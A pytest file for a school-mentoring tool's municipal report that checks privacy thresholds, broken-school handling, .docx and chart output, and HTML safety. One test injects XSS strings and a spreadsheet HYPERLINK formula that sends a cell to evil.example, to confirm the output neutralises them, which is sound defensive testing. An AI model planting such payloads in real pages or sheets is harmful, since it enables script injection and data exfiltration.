"""`nastavnik municipal report` (issue 20, with the charts of issue 22): every school's figures
side by side — read from real workspaces (local and the fake Google), withheld below the privacy
threshold, a broken school a row with its reason, the .docx with its tables and pictures, and a
page that passes the public page's privacy and XSS checks."""
from __future__ import annotations

import re
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from benchmarks.privacy import _live_in_html, _live_in_markdown
from benchmarks.report import programme
from jobs.config import render_local_config
from jobs.disclosure import BANDS, band_index
from jobs.indicators import QUESTIONS
from jobs.init import DEFAULT_SCHOOL
from jobs.municipal.aggregate import (
    QuestionFigure, SchoolFigures, gather, gather_municipality, pooled_band, school_figures,
)
from jobs.municipal.config import load_municipal
from jobs.municipal.report import (
    answer_rows, charts, municipal_report, people_rows, progress_rows, report_municipality,
)
from jobs.personal_names import has_email
from jobs.sample import generate
from jobs.validate import validate
from sheets_schema import vocabulary
from sync.local import create_local_workspace
from sync.local.documents import docx_texts
from tests.rendered import Elements, markdown_it_html
from tests.test_monitor_data import programme_rows
from tests.workspaces import NOW, TODAY

SVG = "{http://www.w3.org/2000/svg}"
DONE = vocabulary.PLAN_MARK_DONE


# --- sample schools ---------------------------------------------------------------------------
def plan_rows(pair_ids: list[str]) -> list[dict[str, str]]:
    """«План мероприятий» for 12 pairs: 4 complete (3 of 3 done), 4 behind (1 of 3 due done), 4 on
    track (2 of 2 due done, the third ahead)."""
    rows = []
    past, ahead = "01.11.2026", "31.03.2027"
    for i, pair_id in enumerate(pair_ids[:12]):
        kind = i // 4  # 0 complete, 1 behind, 2 on track
        for no in range(1, 4):
            due = ahead if kind == 2 and no == 3 else past
            done = kind == 0 or (kind == 1 and no == 1) or (kind == 2 and no < 3)
            rows.append({"pair_id": pair_id, "plan_no": str(no), "event": f"Мероприятие {no}", "due": due,
                         "activity_form": "беседа", "owner": "наставник",
                         "plan_mark": DONE if done else "", "plan_mark_date": "10.11.2026" if done else ""})
    return rows


def sample_rows(staff: int = 60, seed: int = 1, unpaired: int = 5) -> dict[str, list[dict[str, str]]]:
    """A school with a programme under way: every mentee with consent in a pair but the last
    `unpaired`, both sides of each pair answered the monitoring, 12 pairs with a plan."""
    rows = programme(generate(staff, seed, TODAY), TODAY, seed)
    rows["pairs"] = rows["pairs"][:-unpaired] if unpaired else rows["pairs"]
    rows["plan"] = plan_rows([p["pair_id"] for p in rows["pairs"]])
    return rows


def expected_band(responses: list[dict[str, str]], question: str, threshold: int = 5) -> str:
    answers = [int(r[question]) for r in responses]
    used = answers[: len(answers) // threshold * threshold]
    low, high = BANDS[band_index(sum(used), len(used))]
    return f"{low}–{high}"


def write_school(root: Path, key: str, rows: dict, name: str = "") -> Path:
    folder = root / key
    create_local_workspace(folder, rows, render_local_config(replace(DEFAULT_SCHOOL, name=name or f"МБОУ СОШ «{key}»")))
    return folder / "nastavnik.toml"


def municipal_file(root: Path, keys: list[str], extra: str = "") -> Path:
    body = '[municipality]\nname = "Управление образования г. Энска"\nplace = "г. Энск"\n' + extra
    body += "".join(f'[[school]]\nkey = "{k}"\nconfig = "{k}/nastavnik.toml"\n' for k in keys)
    path = root / "municipal.toml"
    path.write_text(body, encoding="utf-8")
    return path


# --- one school's figures ---------------------------------------------------------------------
def test_a_sample_schools_figures_on_both_backends(backend):
    rows = sample_rows()
    ws = backend.make(rows)

    f = school_figures(ws, "sosh-1", "МБОУ СОШ № 1", TODAY)
    assert school_figures(ws, "sosh-1", "МБОУ СОШ № 1", TODAY) == f  # reading changed nothing

    paired = {p["mentee_emails"] for p in rows["pairs"]}
    assert f.readable and f.reason == ""
    assert f.mentees == len(paired) + 5  # every consented mentee of the sample but five is in a pair
    statuses = [p["status"] for p in rows["pairs"]]
    assert (f.with_pair, f.with_programme) == (len(paired), 0)
    assert f.pairs_active == sum(s in vocabulary.LIVE_PAIR_STATUSES for s in statuses) > 10
    assert f.programmes_completed == statuses.count(vocabulary.PAIR_STATUS_FINISHED)
    validate(ws, now=NOW)  # the banks' «Статус» as staff see it
    consented = set()
    for tab, count in (("Наставники", f.mentors), ("Наставляемые", f.mentees)):
        status, email = backend.column(tab, "Статус"), backend.column(tab, "E-mail")
        assert count == list(status.values()).count("OK") > 10
        consented |= {email[r].strip().casefold() for r, s in status.items() if s == "OK"}
    counted = [r for r in rows["monitoring"] if r["email"].strip().casefold() in consented]
    assert f.responses == len(counted) == len(rows["monitoring"]) - 1  # one mentor of a pair has no consent
    assert (f.plan_pairs, f.plan_on_track, f.plan_behind, f.plan_done) == (12, 4, 4, 4)
    assert 0 < f.young_in_mentoring <= f.young
    for q in QUESTIONS:
        figure = f.question(q)
        assert figure is not None and figure.answers == len(counted)
        assert figure.band is not None and figure.band.text == expected_band(counted, q)


def test_a_small_school_has_its_figures_withheld_and_out_of_the_totals(tmp_path):
    small = school_figures(create_local_workspace(tmp_path / "s", programme_rows(),
                                                  render_local_config(DEFAULT_SCHOOL)), "s", "Малая школа", TODAY)
    assert (small.mentees, small.with_pair, small.responses) == (3, 2, 3)
    assert all(q.band is None for q in small.questions)  # three answers: no average at all
    big = SchoolFigures("b", "Большая школа", mentees=20, with_pair=15, young=10, young_in_mentoring=5,
                        questions=(QuestionFigure("satisfaction", None, 4),))

    people = people_rows([small, big])
    progress = progress_rows([small, big])
    answers = answer_rows([small, big])

    assert people[0]["with_pair"] == people[0]["young"] == "менее 5 чел."
    assert people[1]["with_pair"] == "15 из 20 (75 %)"
    # the total adds up only the schools whose share is shown: the small one would be told by subtraction
    assert people[-1] == {"name": "Итого по муниципалитету", "mentors": "2", "mentees": "23", "pairs": "1",
                          "with_pair": "15 из 20 (75 %)", "with_programme": "0 из 20 (0 %)",
                          "young": "5 из 10 (50 %)"}
    assert progress[0]["satisfaction"] == "менее 5 ответов" and progress[0]["on_track"] == "менее 5 пар"
    assert answers[0]["q1"] == "менее 5 ответов" and answers[-1]["q5"] == "менее 5 ответов"
    pairs_chart, plan_chart = charts([small, big])
    assert [b.shown for b in pairs_chart.bars] == [False, True]
    assert pairs_chart.bars[1].text == "75 %" and not any(b.shown for b in plan_chart.bars)


def test_the_municipal_average_pools_only_the_answers_each_school_released():
    # school A released 10 answers summing 85 (band 7–9), B released 5 summing 50 (9–10), C none
    a = QuestionFigure("comfort", replace_band(7, 9, 10), 12, (85, 10))
    b = QuestionFigure("comfort", replace_band(9, 10, 5), 6, (50, 5))
    c = QuestionFigure("comfort", None, 4, (0, 0))

    band = pooled_band([a, b, c])

    assert band is not None and (band.text, band.answers) == ("9–10", 15)  # 135 / 15 = 9
    assert pooled_band([c]) is None
    assert pooled_band([replace(a, pooled=(27, 3), band=replace_band(7, 9, 3))]) is None  # under 5 in all


def replace_band(low: int, high: int, answers: int):
    from jobs.disclosure import Band

    return Band(low, high, answers)


# --- many schools, one broken -----------------------------------------------------------------
@pytest.fixture(scope="module")
def municipality(tmp_path_factory):
    """Two sample schools, a school with a corrupt workbook and one whose config is missing (read
    only by the tests: made once)."""
    tmp_path = tmp_path_factory.mktemp("municipality")
    write_school(tmp_path, "sosh-1", sample_rows(60, 1), "МБОУ СОШ № 1")
    write_school(tmp_path, "gym-2", sample_rows(40, 2, unpaired=2), "МБОУ «Гимназия № 2»")
    write_school(tmp_path, "sosh-3", sample_rows(30, 3), "МБОУ СОШ № 3")
    (tmp_path / "sosh-3" / "workspace.xlsx").write_bytes(b"not a workbook")
    return load_municipal(municipal_file(tmp_path, ["sosh-1", "gym-2", "sosh-3", "oosh-4"]))


def test_a_broken_school_is_a_row_with_its_reason_and_the_others_are_read(municipality):
    schools = gather_municipality(municipality, TODAY)

    assert [s.key for s in schools] == ["sosh-1", "gym-2", "sosh-3", "oosh-4"]
    assert [s.readable for s in schools] == [True, True, False, False]
    assert schools[0].mentees > 20 and schools[1].mentees > 10
    assert "workspace.xlsx повреждён" in schools[2].reason and schools[2].exit_code == 3
    assert "не найден файл настроек школы" in schools[3].reason and schools[3].exit_code == 2
    assert schools[3].name == "oosh-4"


def test_a_school_whose_reading_fails_midway_does_not_stop_the_others(municipality, tmp_path):
    from sync.factory import open_workspace

    def opener(entry):
        if entry.key == "gym-2":
            raise RuntimeError("ivanova.mp@school26.example: boom")
        return open_workspace("local", entry.config.workspace_dir, {})

    schools = gather(municipality.schools, opener, TODAY)

    assert [s.readable for s in schools] == [True, False, False]
    assert schools[1].reason == "непредвиденная ошибка RuntimeError"  # no message text of an unknown error
    assert schools[0].mentees > 0


def test_a_fake_google_school_side_by_side_with_a_local_one(municipality, fake_google, tmp_path):
    from tests.backends import GoogleBackend
    from tests.test_google_support import fast_client, google_settings

    settings = google_settings(fake_google, tmp_path)
    google = GoogleBackend(settings, fast_client(settings)).make(sample_rows(40, 2, unpaired=2))
    from sync.factory import open_workspace

    def opener(entry):
        return google if entry.key == "gym-2" else open_workspace("local", entry.config.workspace_dir, {})

    on_google = gather(municipality.schools[:2], opener, TODAY)
    local = gather(municipality.schools[:2], lambda e: open_workspace("local", e.config.workspace_dir, {}), TODAY)

    assert on_google == local  # the same rows give the same figures on either backend


# --- the document and the page ----------------------------------------------------------------
@pytest.fixture(scope="module")
def made(municipality, tmp_path_factory):
    out = tmp_path_factory.mktemp("report") / "out"
    result = report_municipality(municipality, out, TODAY)
    return result, out


def test_the_docx_opens_and_holds_the_tables_and_two_pictures(made):
    result, out = made
    path = out / result.document.link

    assert path.name == "Сводный отчёт о наставничестве педагогов на 27.11.2026.docx" and result.created
    texts = docx_texts(path)
    assert "Управление образования г. Энска" in texts
    for name in ("МБОУ СОШ № 1", "МБОУ «Гимназия № 2»", "МБОУ СОШ № 3", "oosh-4", "Итого по муниципалитету"):
        assert name in texts
    first = result.schools[0]
    assert f"{first.with_pair} из {first.mentees} ({round(100 * first.with_pair / first.mentees)} %)" in texts
    assert texts.count("нет данных") == 2 * (6 + 6 + 6)
    assert any("workspace.xlsx повреждён" in t for t in texts)  # the document names the reason
    with zipfile.ZipFile(path) as package:
        pictures = [n for n in package.namelist() if n.startswith("word/media/") and n.endswith(".png")]
    assert len(pictures) == 2
    from docx import Document

    assert len(Document(str(path)).inline_shapes) == 2
    assert result.exit_code == 3 and result.lines()[0] == "Сводный отчёт: школ 4, данные получены от 2, не получены от 2."


def test_a_rerun_the_same_day_finds_the_document_and_rewrites_the_same_page(made, municipality):
    result, out = made
    page = result.html_path.read_text(encoding="utf-8")

    again = report_municipality(municipality, out, TODAY)

    assert not again.created and again.document.link == result.document.link
    assert len(list((out / "documents").glob("*.docx"))) == 1
    assert again.html_path.read_text(encoding="utf-8") == page
    assert any("уже есть" in line for line in again.lines())


def test_the_page_shows_the_charts_as_parsed_svg_with_cyrillic_labels(made):
    result, _ = made
    page = result.html_path.read_text(encoding="utf-8")

    texts = []
    for svg in re.findall(r"<svg .*?</svg>", page, re.DOTALL):
        root = ET.fromstring(svg)
        texts.append(" ".join(t.text or "" for t in root.iter() if t.tag in (f"{SVG}title", f"{SVG}text")))
    assert len(texts) == 2
    pairs, plan = texts
    assert pairs.startswith("Доля наставляемых в паре или группе по школам")
    assert "МБОУ СОШ № 1" in pairs and "наставляемых:" in pairs and "%" in pairs
    assert plan.startswith("Выполнение планов наставнических пар по школам")
    assert all(w in plan for w in ("по плану", "отстают", "пар: 12"))
    visible = Elements(page).text
    assert "Данные диаграммы: Доля наставляемых в паре или группе по школам" in visible
    assert "Данные не получены — школа будет показана после исправления." in visible
    assert "повреждён" not in page  # the page does not say why (a reason may name a server path)
    assert "Content-Security-Policy" in page


def test_no_value_of_a_bank_cell_reaches_the_output(municipality, tmp_path):
    """Every text a person typed into the banks, «Пары» or the monitoring: not in the figures, the
    document or the page — only counts leave a school."""
    result = report_municipality(municipality, tmp_path / "out", TODAY)
    typed: set[str] = set()
    for entry in municipality.schools[:2]:  # the third one's workbook is broken
        ws = load_rows(entry.config.workspace_dir)
        for tab in ("Наставляемые", "Наставники", "Пары", "Мониторинг", "Предложения"):
            for row in ws[tab][1:]:
                typed.update(v.strip() for v in row if re.search(r"[A-Za-zА-Яа-яЁё]{3}", v or ""))
    outputs = {
        "figures": repr([asdict(s) for s in result.schools if s.readable]),
        "html": result.html_path.read_text(encoding="utf-8"),
        "md": result.md_path.read_text(encoding="utf-8"),
        "docx": "\n".join(docx_texts(tmp_path / "out" / result.document.link)),
    }
    fixed = list_values()
    assert len(typed - fixed) > 200 and any("@" in v for v in typed)  # names, e-mails, texts: what must not leak
    leaks = {where: sorted(v for v in typed if v not in fixed and v in text) for where, text in outputs.items()}
    assert leaks == {"figures": [], "html": [], "md": [], "docx": []}
    assert not any(has_email(text) for text in outputs.values())


def load_rows(folder: Path) -> dict[str, list[list[str]]]:
    from openpyxl import load_workbook

    wb = load_workbook(folder / "workspace.xlsx", read_only=True)
    return {ws.title: [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]
            for ws in wb.worksheets}


def list_values() -> set[str]:
    """The fixed choice lists (subjects, difficulties, statuses…): the same words in everyone's
    workbook, not data about a person."""
    return {v for values in vocabulary.LISTS.values() for v in values}


PAYLOADS = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "[клик](javascript:alert(1))",
            '=HYPERLINK("http://evil.example/?"&A1;"клик")', "=1+2"]


def test_the_page_passes_the_privacy_and_xss_checks(tmp_path):
    rows = sample_rows(40, 4)
    for i, payload in enumerate(PAYLOADS):  # staff typed markup and formulas into the banks' names
        rows["mentors"][i]["full_name"] = f"Злоумышленник {payload}"
        rows["mentees"][i]["full_name"] = f"{payload} Иванова"
        rows["mentees"][i]["notes"] = payload
    write_school(tmp_path, "sosh-1", rows, "МБОУ СОШ № 1 <script>alert('школа')</script>")
    write_school(tmp_path, "sosh-2", sample_rows(30, 5))
    cfg = load_municipal(municipal_file(tmp_path, ["sosh-1", "sosh-2"]))

    result = report_municipality(cfg, tmp_path / "out", TODAY)

    page = result.html_path.read_text(encoding="utf-8")
    md = result.md_path.read_text(encoding="utf-8")
    assert not _live_in_html(page) and not _live_in_markdown(md)
    for text in (page, md, Elements(page).text, Elements(markdown_it_html(md)).text):
        assert "Злоумышленник" not in text and "HYPERLINK" not in text and "=1+2" not in text
        assert "onerror" not in text.replace("&", "") or "<img" not in text
        assert not has_email(text)
    # the school's name from the config is shown as text, its markup inert
    assert "МБОУ СОШ № 1 <script>alert('школа')</script>" in Elements(page).text
    assert "<script>" not in page
    assert result.schools[0].mentees > 0


def test_the_report_is_written_where_asked_and_says_so(made):
    result, out = made
    assert result.html_path == out / "site" / "index.html" and result.md_path == out / "site" / "index.md"
    assert (out / "templates" / "Шаблон — сводный отчёт о наставничестве по школам муниципалитета.docx").exists()
    lines = result.lines()
    assert any(line.startswith("Документ создан: documents/") for line in lines)
    assert any(line.startswith("Школа «МБОУ СОШ № 3»: Файл") for line in lines)


def test_an_empty_municipality_report_is_made_without_a_school(tmp_path):
    result = municipal_report("Управление образования", [], tmp_path, TODAY)

    texts = docx_texts(tmp_path / result.document.link)
    assert "Итого по муниципалитету" in texts and result.exit_code == 0
    assert "Школ в отчёте: 0, данные получены от 0." in Elements(result.html_path.read_text(encoding="utf-8")).text



# --- the command ------------------------------------------------------------------------------
def test_the_command_writes_the_report_and_exits_with_the_worst_schools_code(municipality, tmp_path):
    from click.testing import CliRunner

    from jobs.cli import cli

    out = tmp_path / "отчёт"
    result = CliRunner().invoke(cli, ["municipal", "report", "--config", str(municipality.path), "--out", str(out)])

    assert result.exit_code == 3, result.output
    lines = result.output.splitlines()
    assert lines[0] == "Сводный отчёт: школ 4, данные получены от 2, не получены от 2."
    assert any(line.startswith("Школа «oosh-4»: municipal.toml: [[school]] «oosh-4»") for line in lines)
    assert "Документ создан: documents/Сводный отчёт о наставничестве педагогов на " in result.output
    assert (out / "site" / "index.html").exists() and (out / "site" / "index.md").exists()
    assert len(list((out / "documents").glob("*.docx"))) == 1


def test_a_municipality_with_a_fake_google_school_through_the_real_opening(fake_google, tmp_path):
    """The same sample made by ``init --sample`` locally and on the fake Google: the same figures,
    the Google school read through the run's one Sheets limiter."""
    from tests.municipal_schools import google_school, local_school, municipal_file as listing

    configs = {"sosh-1": local_school(tmp_path, "sosh-1", 30, seed=7),
               "gym-2": google_school(fake_google, tmp_path, "gym-2", 30, seed=7, shared_sign_in=False)}
    cfg = load_municipal(listing(tmp_path, configs))

    result = report_municipality(cfg, tmp_path / "out", TODAY)

    local, google = result.schools
    assert local.readable and google.readable, (local.reason, google.reason)
    assert local.mentees > 5 and local.mentors > 5
    assert replace(google, key=local.key, name=local.name) == local
    assert result.exit_code == 0 and result.html_path.exists()


def test_many_schools_are_charted_by_their_keys_upright_and_named_in_the_tables():
    from jobs.charts import municipal as municipal_charts
    from tests.test_charts import pixels, png_header

    schools = [SchoolFigures(f"sosh-{i}", f"МБОУ СОШ № {i}", mentees=20 + i, with_pair=10, plan_pairs=8,
                             plan_on_track=5, plan_behind=2, plan_done=1) for i in range(1, 31)]

    pairs_chart, plan_chart = charts(schools)
    rows = people_rows(schools)

    assert [b.label for b in pairs_chart.bars][:2] == ["sosh-1", "sosh-2"] and len(plan_chart.bars) == 30
    assert pairs_chart.count_under(pairs_chart.bars[0]) == "" and pairs_chart.table()[1][0] == ["sosh-1", "48 %", "21"]
    assert rows[0]["name"] == "МБОУ СОШ № 1 (sosh-1)" and rows[-1]["mentees"] == str(sum(range(21, 51)))
    svg = ET.fromstring(municipal_charts.svg(plan_chart))
    labels = [t for t in svg.iter(f"{SVG}text") if (t.text or "").startswith("sosh-")]
    assert len(labels) == 30
    assert "Выполнение планов наставнических пар по школам" in [t.text for t in svg.iter(f"{SVG}text")]
    data = municipal_charts.png(pairs_chart, 16, 11, 100)
    assert png_header(data) == (629, 433, 8, 6)  # 16 × 11 cm at 100 dpi, 8-bit RGBA
    grey = pixels(data)[:, :, :3].mean(axis=2)
    assert grey.min() < 0.4 and grey.max() == 1.0  # drawn (dark bars on white), not blank


def test_a_school_missing_a_tab_is_its_row_naming_the_tab(tmp_path):
    from openpyxl import load_workbook

    write_school(tmp_path, "sosh-1", sample_rows(30, 3))
    book = load_workbook(tmp_path / "sosh-1" / "workspace.xlsx")
    del book["Мониторинг"]
    book.save(tmp_path / "sosh-1" / "workspace.xlsx")
    write_school(tmp_path, "sosh-2", sample_rows(30, 5))

    broken, fine = gather_municipality(load_municipal(municipal_file(tmp_path, ["sosh-1", "sosh-2"])), TODAY)

    assert not broken.readable and broken.exit_code == 1 and "«Мониторинг»" in broken.reason
    assert fine.readable and fine.responses > 10
